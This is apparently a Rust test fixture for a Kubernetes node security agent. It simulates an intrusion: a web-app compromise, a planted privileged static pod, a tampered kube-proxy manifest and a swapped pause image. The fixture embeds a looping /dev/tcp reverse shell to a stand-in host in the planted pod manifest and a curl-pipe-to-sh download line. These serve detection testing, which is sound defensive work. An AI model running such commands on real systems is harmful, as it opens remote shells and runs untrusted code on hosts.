//! A node's bad day, for tests: what the agent records while somebody comes in through a web application, plants a static
//! pod, changes another and swaps the pause image.

use detector_common::{Shared, hook};

use crate::{
    pipeline::Pipeline,
    record::{
        Body, ChangeKind, ContainerRole, DirState, HookState, ImageArrival, ImageNames, Loss, ManifestFile,
        PauseConfig, ProcessSeed, Start, WatchReason, Watched, WatchedDir,
    },
    report::Report,
    testing::{self, Actor, DIR, FILE, HOST_MNT, HOST_PID, SECOND, Stream},
};

const POD_SHARED: Shared = Shared { net: 501, ipc: 502, uts: 503, cgroup: 0, user: 0 };
const SHIM: Actor = Actor { pid: 1411, start: 20, cgroup: 1, mnt_ns: HOST_MNT, pid_ns: HOST_PID };
const APP: Actor = Actor { pid: 1502, start: 22, cgroup: 901, mnt_ns: 62, pid_ns: 72 };

const PROXY: &str = "\
apiVersion: v1
kind: Pod
metadata:
  name: kube-proxy
  namespace: kube-system
  labels:
    component: kube-proxy
spec:
  hostNetwork: true
  priorityClassName: system-node-critical
  containers:
  - name: kube-proxy
    image: registry.k8s.io/kube-proxy:v1.34.1
    command: [kube-proxy, --config=/var/lib/kube-proxy/config.conf]
    volumeMounts:
    - {name: config, mountPath: /var/lib/kube-proxy}
  volumes:
  - name: config
    hostPath: {path: /var/lib/kube-proxy}
";

const PLANTED: &str = "\
apiVersion: v1
kind: Pod
metadata:
  name: node-exporter
  namespace: kube-system
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: exporter
    image: docker.io/lib-metrics/exporter:2
    securityContext: {privileged: true}
    command: [/bin/sh, -c, \"while :; do sh -i >& /dev/tcp/203.0.113.7/4444 0>&1; sleep 60; done\"]
    volumeMounts:
    - {name: root, mountPath: /host}
  volumes:
  - name: root
    hostPath: {path: /}
";

/// The page of a stream.
pub fn page(stream: &Stream) -> String {
    let (mut pipeline, mut report) = (Pipeline::new(), Report::new());
    for record in &stream.records {
        let alerts = pipeline.push(record);
        report.observe(record, &alerts, &pipeline);
    }
    let mut page = Vec::new();
    report.finish(&mut page).unwrap();
    String::from_utf8(page).unwrap()
}

/// The whole story. `word` stands in everything that somebody else than us chooses.
pub fn attack(word: &str) -> Stream {
    let mut stream = node(word);
    let name = format!("node-exporter{word}.yaml");
    let planted = format!("{PLANTED}# {word}\n");

    // Somebody comes in through the application, and plants a pod through a mount of the host.
    let shell = Actor { pid: 7301, start: 140, ..APP };
    let copy = Actor { pid: 7302, start: 141, ..APP };
    stream.wait(41 * SECOND);
    stream.kernel(testing::fork(APP, shell));
    let line = format!("curl -s http://203.0.113.7/x{word} | sh");
    stream.kernel(testing::exec_in(shell, APP, "/bin/sh", &["sh", "-c", &line], POD_SHARED, 30, ""));
    stream.kernel(testing::fork(shell, copy));
    let exe = format!("/usr/bin/cp{word}");
    let into = format!("/host/etc/kubernetes/manifests/{name}");
    let argv = ["cp", "/tmp/pod one.yaml", word, &into];
    stream.kernel(testing::exec_in(copy, shell, &exe, &argv, POD_SHARED, 31, "pts0"));
    let since = stream.now();
    stream.kernel(testing::entry(copy, hook::INODE_CREATE, [FILE, DIR], ["node-exporter.yaml", ""]));
    stream.kernel(testing::open(copy, FILE, DIR, &into));
    stream.kernel(testing::change(copy, FILE, detector_common::watch::FILE));
    stream.push(changed(ChangeKind::Added, &name, None, Some(&planted), since));

    // Through the runtime, into the same container.
    stream.wait(12 * SECOND);
    runtime_exec(&mut stream, &["/bin/bash", "-i", word]);

    // On the host, another pod is changed; and its file goes for a moment.
    stream.wait(25 * SECOND);
    let editor = Actor::host(7650, 178);
    stream.kernel(testing::fork(Actor::host(50, 10), editor));
    let script = format!("s#v1.34.1#v1.34.1-fix{word}#");
    let path = "/etc/kubernetes/manifests/kube-proxy.yaml";
    stream.kernel(testing::exec(editor, Actor::host(50, 10), "/usr/bin/sed", &["sed", "-i", &script, path]));
    let since = stream.now();
    stream.kernel(testing::rename(editor, Some(DIR), &format!("/etc/kubernetes/manifests/sed{word}"), path));
    let fixed = PROXY
        .replace("v1.34.1", &format!("v1.34.1-fix{}", word.replace('\n', " ")))
        .replace("  containers:\n", "  hostPID: true\n  containers:\n");
    stream.push(changed(ChangeKind::Modified, "kube-proxy.yaml", Some(PROXY), Some(&fixed), since));

    // An image that calls itself pause, and a runtime that is told to use it.
    stream.wait(18 * SECOND);
    let sha = |c: char| format!("sha256:{}", c.to_string().repeat(64));
    stream.push(Body::Image(Box::new(ImageArrival {
        digest: sha('7'),
        media_type: "application/vnd.oci.image.manifest.v1+json".to_owned(),
        children: vec![sha('9')],
        layers: 2,
        path: format!("/var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/{}", "7".repeat(64)),
        ..ImageArrival::default()
    })));
    stream.push(Body::ImageNames(Box::new(ImageNames {
        id: sha('9'),
        tags: vec![format!("registry.k8s.io/pause:3.10{word}")],
        digests: vec![format!("registry.k8s.io/pause@{}", sha('7'))],
        pinned: false,
    })));
    let config = |image: &str, before| {
        Body::PauseConfig(Box::new(PauseConfig {
            path: format!("/etc/containerd/config.toml{word}"),
            image: Some(image.to_owned()),
            before,
            unreadable: None,
        }))
    };
    let old = "registry.k8s.io/pause:3.10".to_owned();
    stream.push(config(&old, None));
    stream.wait(4 * SECOND);
    stream.push(Body::Tick);
    stream.push(config(&format!("registry.example/pause:3.10{word}"), Some(Some(old))));
    for _ in 0..5 {
        stream.wait(SECOND);
        stream.push(Body::Tick);
    }

    // And a ring was full for a while.
    let hook = format!("syscall{word}");
    stream.push(Body::Loss(Box::new(Loss { hook, cpu: Some(1), lost: 17, skipped: false, alerting: true })));
    stream.wait(280 * SECOND);
    stream.push(Body::Tick);
    stream
}

/// `count` findings in about an hour, in bursts, of every severity.
pub fn busy(count: u32) -> Stream {
    let mut stream = node("");
    for n in 0..count {
        stream.wait(if n % 9 == 0 { 140 * SECOND } else { SECOND / 3 });
        let actor = if n % 3 == 0 { APP } else { Actor::host(50, 10) };
        let file = crate::record::InodeKey { ino: 2000 + u64::from(n), ..FILE };
        let name = format!("{}batch-{n}.yaml", if n % 4 == 1 { "." } else { "" });
        let since = stream.now();
        stream.kernel(testing::open(actor, file, DIR, &format!("/etc/kubernetes/manifests/{name}")));
        let text = PROXY.replace("kube-proxy", &format!("batch-{n}"));
        match n % 5 {
            0..3 => stream.push(changed_inode(file, ChangeKind::Added, &name, None, Some(&text), since)),
            3 => stream.push(changed_inode(file, ChangeKind::Removed, &name, Some(&text), None, since)),
            _ => {
                let sha = format!("sha256:{n:064}");
                stream.push(Body::Image(Box::new(ImageArrival { digest: sha, layers: 3, ..ImageArrival::default() })));
                stream.wait(3 * SECOND);
                stream.push(Body::Tick);
            }
        }
    }
    stream
}

/// A node on which nothing has happened yet.
pub fn node(word: &str) -> Stream {
    let mut stream = Stream::new();
    let Body::Start(start) = testing::start() else { unreachable!() };
    let hook = |name: &str, backend: Option<&str>, required| HookState {
        name: name.to_owned(),
        backend: backend.map(str::to_owned),
        reason: backend.is_none().then(|| format!("this kernel has no function of that name{word}")),
        verified: Some(1200),
        required,
    };
    stream.records[0].body = Body::Start(Box::new(Start {
        agent_version: env!("CARGO_PKG_VERSION").to_owned(),
        node: format!("worker-7{word}"),
        kernel: "6.12.48+deb13-amd64".to_owned(),
        hooks: vec![
            hook("exec", Some("tracepoint"), true),
            hook("fork", Some("tracepoint"), true),
            hook("exit", Some("tracepoint"), true),
            hook("file-open", Some("fentry"), true),
            hook("inode-create", Some("fentry"), true),
            hook("inode-rename", Some("fentry"), true),
            hook("mount", Some("fentry"), true),
            hook("inode-change-set", None, false),
        ],
        ..*start
    }));
    let seed = |pid, start, parent, exe: &str, argv: &[&str]| {
        let argv = argv.iter().map(|arg| (*arg).to_owned()).collect();
        Body::Process(Box::new(ProcessSeed { argv, ..testing::seed(pid, start, parent, exe) }))
    };
    stream.push(seed(612, 6, 1, "/usr/bin/containerd", &["containerd"]));
    let shim = ["containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", "sandbox"];
    stream.push(seed(SHIM.pid, 20, 1, "/usr/bin/containerd-shim-runc-v2", &shim));
    stream.push(Body::Watched(Watched {
        dirs: vec![WatchedDir {
            path: format!("/etc/kubernetes/manifests{word}"),
            reason: WatchReason::KubeletConfig("/var/lib/kubelet/config.yaml".to_owned()),
            kubelet_pid: Some(702),
            state: DirState::Present(DIR),
        }],
    }));
    let now = stream.now();
    stream.push(changed(ChangeKind::Present, "kube-proxy.yaml", None, Some(PROXY), now));
    // The pod that serves the application.
    for (init, id, role, exe) in [
        (
            Actor { pid: 1450, start: 21, cgroup: 900, mnt_ns: 61, pid_ns: 71 },
            "sandbox",
            ContainerRole::Sandbox,
            "/pause",
        ),
        (APP, "5d1c2b7e90aa41f6", ContainerRole::Member, "/opt/shop/server"),
    ] {
        stream.kernel(testing::cgroup(SHIM, init.cgroup, &format!("/kubepods/burstable/pod0a1b/{id}{word}")));
        let mut info = testing::container(&format!("{id}{word}"), init.cgroup, role, &format!("server{word}"));
        info.image = Some(format!("registry.example/shop/server:4.2{word}"));
        info.image_digest = Some(format!("sha256:{}{word}", "c3".repeat(32)));
        info.pod.iter_mut().for_each(|pod| pod.name = format!("web-7c9f{word}"));
        stream.push(Body::Container(Box::new(info)));
        stream.kernel(testing::fork(SHIM, init));
        stream.kernel(testing::exec_in(init, SHIM, exe, &[exe], POD_SHARED, 1, ""));
    }
    stream
}

fn changed(
    kind: ChangeKind,
    name: &str,
    before: Option<&str>,
    after: Option<&str>,
    since: crate::record::BootNs,
) -> Body {
    changed_inode(FILE, kind, name, before, after, since)
}

fn changed_inode(
    inode: crate::record::InodeKey,
    kind: ChangeKind,
    name: &str,
    before: Option<&str>,
    after: Option<&str>,
    since: crate::record::BootNs,
) -> Body {
    let file = |text: &str, sha: &str| ManifestFile {
        inode,
        size: text.len() as u64,
        sha256: Some(sha.repeat(32)),
        content: bytes::Bytes::copy_from_slice(text.as_bytes()),
        ..ManifestFile::default()
    };
    let mut change = testing::manifest(kind, None, since);
    change.dir = "/etc/kubernetes/manifests".to_owned();
    change.visible = !name.starts_with('.');
    change.name = name.to_owned();
    change.before = before.map(|text| file(text, "b4"));
    change.after = after.map(|text| file(text, "af"));
    Body::Manifest(Box::new(change))
}

/// `argv` is executed in the application's container as the runtime does it for the CRI.
fn runtime_exec(stream: &mut Stream, argv: &[&str]) {
    let host = Shared::default();
    let runc = Actor { pid: 7500, start: 153, ..SHIM };
    let file = format!("/run/containerd/5d1c/{}.pid", "ab".repeat(32));
    stream.kernel(testing::fork(SHIM, runc));
    let line = ["runc", "--root", "/run/runc", "exec", "--pid-file", &file, "5d1c2b7e90aa41f6"];
    stream.kernel(testing::exec_in(runc, SHIM, "/usr/sbin/runc", &line, host, runc.pid, ""));
    let init = Actor { pid: 7501, ..runc };
    stream.kernel(testing::fork(runc, init));
    stream.kernel(testing::exec_in(init, runc, "/usr/sbin/runc", &["runc", "init"], host, init.pid, ""));
    stream.kernel(testing::cgroup_move(runc, init, APP.cgroup));
    stream.kernel(testing::namespaces(init, APP.mnt_ns, APP.pid_ns, POD_SHARED));
    let inside = Actor { pid: 7502, start: 153, ..APP };
    stream.kernel(testing::fork(Actor { cgroup: APP.cgroup, mnt_ns: APP.mnt_ns, ..init }, inside));
    stream.kernel(testing::exit(init));
    stream.kernel(testing::exec_in(inside, runc, argv[0], argv, POD_SHARED, 17, "pts1"));
}
